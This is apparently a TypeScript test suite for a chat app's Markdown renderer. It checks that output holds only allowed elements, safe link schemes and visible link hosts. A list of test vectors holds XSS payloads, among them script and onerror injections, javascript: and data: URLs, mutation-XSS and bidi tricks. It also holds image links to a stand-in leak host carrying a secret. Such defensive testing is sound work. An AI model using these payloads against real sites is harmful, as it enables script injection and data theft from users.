import fc from 'fast-check'
import { Children, createElement, isValidElement, type ReactElement, type ReactNode } from 'react'
import { describe, expect, test } from 'vitest'
import { destinationOf, externalUrl } from '../../../web/ui/chat/links.ts'
import { Markdown } from '../../../web/ui/chat/markdown.tsx'
import { anyLetter } from '../../support/letters.ts'
import { rounds } from '../../support/scope.ts'

const ELEMENTS = new Set(
  'a blockquote br code del div em hr li ol p pre span strong table tbody td th thead tr ul'.split(' '),
)
const PROPS: Record<string, readonly string[]> = { a: ['href', 'target', 'rel'], ol: ['start'] }
const PROPS_OF_ALL = ['children', 'className', 'dir', 'tabIndex', 'aria-hidden']

/** Every element that a text becomes, in order. */
function elementsOf(node: ReactNode): ReactElement<Record<string, unknown>>[] {
  return Children.toArray(node).flatMap((child) => {
    if (!isValidElement<Record<string, unknown>>(child)) return []
    const inside = elementsOf(child.props['children'] as ReactNode)
    return typeof child.type === 'string' ? [child, ...inside] : inside
  })
}
const textOf = (node: ReactNode): string =>
  Children.toArray(node)
    .map((child) => (isValidElement<{ children?: ReactNode }>(child) ? textOf(child.props.children) : String(child)))
    .join('')
const drawn = (text: string) => Markdown({ text })
const tags = (text: string) => elementsOf(drawn(text)).map(({ type }) => type)
const links = (text: string) => elementsOf(drawn(text)).filter(({ type }) => type === 'a')

/** Only allowed elements with allowed properties, and links that lead outward by an allowed scheme. */
function expectHarmless(text: string): void {
  for (const { type, props } of elementsOf(drawn(text))) {
    expect(ELEMENTS, `<${type}> from ${JSON.stringify(text)}`).toContain(type)
    const allowed = [...PROPS_OF_ALL, ...(PROPS[type as string] ?? [])]
    for (const name of Object.keys(props)) expect(allowed).toContain(name)
    if (type !== 'a') continue
    expect(props['href']).toMatch(/^(?:https?:\/\/[^/]|mailto:|tel:)/)
    expect(props['rel']).toBe('noopener noreferrer nofollow ugc')
    expect(props['target']).toBe('_blank')
  }
}

const VECTORS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<div style="background:url(http://leak.example)">x</div>',
  '<style>@import "http://leak.example"</style>',
  '<link rel=stylesheet href=http://leak.example>',
  '<base href=//leak.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<x contenteditable onblur=alert(1)>lose focus!',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](JaVaScRiPt&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](java&#x09;script:alert(1))',
  '[x](<java\u0000script:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://vocero.test/1)',
  '[x](file:///etc/passwd)',
  '[x](view-source:https://a.example)',
  '[x](intent://scan/#Intent;scheme=zxing;end)',
  '[a]: javascript:alert(1)\n\n[a]',
  '[a]: data:text/html,1\n\n[x][a]',
  '<javascript:alert(1)>',
  '<data:text/html,1>',
  '![x](http://leak.example/?d=SECRET)',
  '![x][a]\n\n[a]: http://leak.example/?d=SECRET',
  '![x](javascript:alert(1))',
  '[![x](http://leak.example/1)](javascript:alert(1))',
  '[x](//leak.example)',
  '[x](/dashboard)',
  '[x](../admin)',
  '[x](#top)',
  '[x](https:/\\leak.example)',
  '[x](https://user:secret@leak.example)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '- [x](javascript:alert(1))\n  - <img src=x onerror=alert(1)>',
  '# <svg onload=alert(1)>',
  '[[[[[[x](javascript:alert(1))](javascript:alert(1))](javascript:alert(1))',
  '**<b onclick=alert(1)>x</b>**',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202e[x](javascript:alert(1))',
]

test('an amount is not broken before its currency', () => {
  expect(textOf(drawn('| Tacos |\n|---|\n| 14,50 € |'))).toBe('Tacos14,50\u00a0€')
  expect(textOf(drawn('Desde 45 000 ₮, o **20 $** al mes'))).toBe('Desde 45 000\u00a0₮, o 20\u00a0$ al mes')
})

describe('foreign text', () => {
  test.each(VECTORS)('%j becomes nothing but harmless elements', (text) => {
    expectHarmless(text)
    expect(tags(text)).not.toContain('img')
  })

  test('random texts become nothing but harmless elements', () => {
    const pieces = fc.constantFrom(
      ...VECTORS,
      ...'[ ] ( ) ! < > ` ``` * ** _ ~~ # - 1. > | \\ & : // \n \n\n \t'.split(' '),
      'https://a.example',
      'javascript:',
      'onerror=',
    )
    const text = fc.array(fc.oneof(pieces, fc.string({ unit: anyLetter, maxLength: 6 })), { maxLength: 14 })
    return fc.assert(
      fc.property(text, (parts) => expectHarmless(parts.join(''))),
      { numRuns: rounds(200, 1_000) },
    )
  })

  test('any text at all becomes nothing but harmless elements, and says no less than it has letters', () => {
    const text = fc.oneof(fc.string({ unit: anyLetter }), fc.string({ unit: 'grapheme' }), fc.lorem({ maxCount: 30 }))
    const letters = (said: string) => said.match(/\p{L}/gu)?.join('') ?? ''
    return fc.assert(
      fc.property(text, (any) => {
        expectHarmless(any)
        if (!/[&[<]/.test(any)) expect(letters(textOf(drawn(any)))).toBe(letters(any))
      }),
      { numRuns: rounds(200, 1_000) },
    )
  })

  test('what is drawn is never deeper than a page can hold', () => {
    const depthOf = (node: ReactNode): number =>
      Math.max(
        0,
        ...Children.toArray(node).map((child) =>
          isValidElement<{ children?: ReactNode }>(child) ? 1 + depthOf(child.props.children) : 0,
        ),
      )
    const opening = fc.constantFrom(
      ...'*a _b **c __d ~~e [f ![g > - 1.'.split(' '),
      '> ',
      '- ',
      '*_',
      '](x)',
      '* ',
      '\n',
    )
    return fc.assert(
      fc.property(fc.array(opening, { minLength: 200, maxLength: 600 }), (parts) => {
        expect(depthOf(drawn(parts.join('')))).toBeLessThan(200)
      }),
      { numRuns: rounds(40, 200) },
    )
  })

  test.each([
    ['quotes', '>'.repeat(10_000)],
    ['lists', Array.from({ length: 2_000 }, (_, depth) => `${'  '.repeat(depth)}- x`).join('\n')],
    ['brackets', '['.repeat(10_000)],
    ['nested links', `${'[x]('.repeat(4_000)}`],
    ['stars', '*a '.repeat(6_000)],
    ['underscores', '_a_b'.repeat(4_500)],
    ['backticks', '`a``'.repeat(4_500)],
    ['table', `${'|a'.repeat(3_000)}\n${'|-'.repeat(3_000)}`],
    ['angle brackets', '<a '.repeat(6_000)],
    ['length', 'x'.repeat(1_000_000)],
  ])('endless %s do not break the page', (_, text) => {
    expect(textOf(drawn(text)).length).toBeGreaterThan(0)
  })
})

describe('a reply with the usual Markdown', () => {
  test('paragraphs, emphasis, lists, quotes, code and tables are drawn', () => {
    const text = 'Hola **a** *b* ~~c~~ `d`\n\n- uno\n- dos\n\n3. tres\n\n> cita\n\n```\ncódigo\n```\n\n|a|\n|-|\n|b|'
    expect(tags(text)).toEqual(
      expect.arrayContaining('p strong em del code ul ol li blockquote pre table thead tbody th td'.split(' ')),
    )
    expect(elementsOf(drawn('3. tres')).find(({ type }) => type === 'ol')?.props['start']).toBe(3)
  })

  test('one line break is a line break', () => {
    expect(tags('uno\ndos')).toContain('br')
  })

  test('a heading does not become a heading of the page', () => {
    expect(tags('# Horario')).toEqual(['div', 'p', 'strong', 'span'])
  })

  test('HTML is shown as it was written', () => {
    expect(textOf(drawn('un <b>texto</b>'))).toBe('un <b>texto</b>')
  })

  test('characters that everybody writes by name are read, once', () => {
    expect(textOf(drawn('Té &amp; café &lt;3 &amp;lt;'))).toBe('Té & café <3 &lt;')
  })

  test('stars within numbers stay', () => {
    expect(textOf(drawn('Tamaños: 10*20 y 30*40 cm, *5*3*'))).toBe('Tamaños: 10*20 y 30*40 cm, 5*3')
    expect(tags('a **b**c *d*')).toEqual(['div', 'p', 'span', 'strong', 'span', 'span', 'em', 'span'])
  })

  test('a task list shows what is done', () => {
    expect(textOf(drawn('- [x] pan\n- [ ] leche'))).toMatch(/☑ pan.*☐ leche/s)
  })

  test('a link says where it leads when its text does not', () => {
    expect(textOf(drawn('[la carta](https://lumbre.example/carta)'))).toBe('la carta (lumbre.example)')
    expect(textOf(drawn('https://lumbre.example/carta'))).toBe('https://lumbre.example/carta')
  })

  test.each([
    ['[https://lumbre.example/?de=evil.test](https://evil.test/)', 'https://lumbre.example/?de=evil.test (evil.test)'],
    ['[https://lumbre.example/evil.test](https://evil.test/)', 'https://lumbre.example/evil.test (evil.test)'],
    ['[evil.test.lumbre.example](https://evil.test/)', 'evil.test.lumbre.example (evil.test)'],
    ['[https://evil.test@lumbre.example](https://evil.test/)', 'https://evil.test@lumbre.example (evil.test)'],
    ['[evil.test/ o bien lumbre.example](https://evil.test/)', 'evil.test/ o bien lumbre.example (evil.test)'],
    ['[hola@lumbre.example, no a@evil.test](mailto:a@evil.test)', 'hola@lumbre.example, no a@evil.test (a@evil.test)'],
    ['[evil.test/\u202Eelpmaxe.erbmul](https://evil.test/)', 'evil.test/\u202Eelpmaxe.erbmul (evil.test)'],
    ['https://аррӏе.example/', 'https://аррӏе.example/ (xn--80ak6aa92e.example)'],
  ])('%s says where it leads, because its text is another address', (text, shown) => {
    expect(textOf(drawn(text))).toBe(shown)
  })

  test.each([
    ['[lumbre.example](https://lumbre.example/carta)'],
    ['[Lumbre.example/carta](https://lumbre.example/carta)'],
    ['[**https://lumbre.example/**](https://lumbre.example/)'],
    ['www.lumbre.example'],
    ['hola@lumbre.example'],
    ['<mailto:hola@lumbre.example>'],
    ['[+34600111222](tel:+34600111222)'],
  ])('%s says where it leads by its text alone', (text) => {
    expect(textOf(drawn(text))).not.toContain(' (')
  })

  test('an image becomes a link that shows the host, and is not loaded', () => {
    const [link] = links('![mapa](https://maps.example/x.png)')
    expect(link?.props['href']).toBe('https://maps.example/x.png')
    expect(textOf(link as ReactNode)).toContain('maps.example')
    expect(tags('![mapa](https://maps.example/x.png)')).not.toContain('img')
  })

  test.each(['https://vocero.test', 'https://evil.test', 'http://vocero.test:8443'])(
    'a picture that a member has sent is loaded from this site and leads to it, if its address has the host of %s',
    (origin) => {
      const path = '/api/agents/a/uploads/b.png'
      const [link] = links(`![caja](${origin}${path})`)
      const [, picture] = elementsOf(link as ReactNode)
      expect([link?.props['href'], picture?.props['src'], picture?.props['alt']]).toEqual([path, path, 'caja'])
    },
  )

  test('a mail address and a telephone number can be followed', () => {
    expect(links('hola@lumbre.example').map(({ props }) => props['href'])).toEqual(['mailto:hola@lumbre.example'])
    expect(links('[llámanos](tel:+34600111222)').map(({ props }) => props['href'])).toEqual(['tel:+34600111222'])
  })

  test('a link that leads into this site is text', () => {
    expect(links('[entra](/dashboard) [aquí](//evil.example)')).toEqual([])
    expect(textOf(drawn('[entra](/dashboard)'))).toBe('entra')
  })

  test('text keeps its own direction and cannot turn its surroundings', () => {
    const box = createElement('div', null, drawn('مرحبا'))
    const [, outer] = elementsOf(box)
    expect(outer?.props['dir']).toBe('auto')
    expect(String(outer?.props['className'])).toContain('unicode-bidi:isolate')
  })
})

describe('an address that a link may lead to', () => {
  test.each([
    ['https://a.example/b', 'https://a.example/b'],
    ['HTTP://A.example', 'http://a.example/'],
    ['mailto:a@b.example', 'mailto:a@b.example'],
    ['tel:+34600', 'tel:+34600'],
  ])('%s leads outward', (address, read) => expect(externalUrl(address)).toBe(read))

  test.each([
    '/a',
    '//a.example',
    'a.html',
    '#a',
    '?a',
    '',
    'javascript:alert(1)',
    'java\nscript:alert(1)',
    'ftp://a.example',
    'https://u:p@a.example',
    'https://a.example/\u202egnp.exe',
  ])('%j leads nowhere', (address) => expect(externalUrl(address)).toBeNull())

  test('a host in other letters is shown as it is looked up', () => {
    expect(destinationOf(externalUrl('https://аррӏе.com') ?? '')).toMatch(/^xn--/)
  })
})
